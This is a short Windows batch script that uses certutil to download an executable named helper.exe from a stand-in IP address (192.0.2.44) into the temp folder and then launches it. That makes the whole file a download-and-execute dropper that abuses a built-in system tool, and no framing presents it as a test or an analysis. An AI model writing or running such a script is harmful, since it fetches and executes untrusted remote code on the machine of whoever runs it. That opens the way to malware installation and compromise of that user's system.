@echo off
certutil -urlcache -split -f http://192.0.2.44/helper.exe %TEMP%\helper.exe
start "" %TEMP%\helper.exe
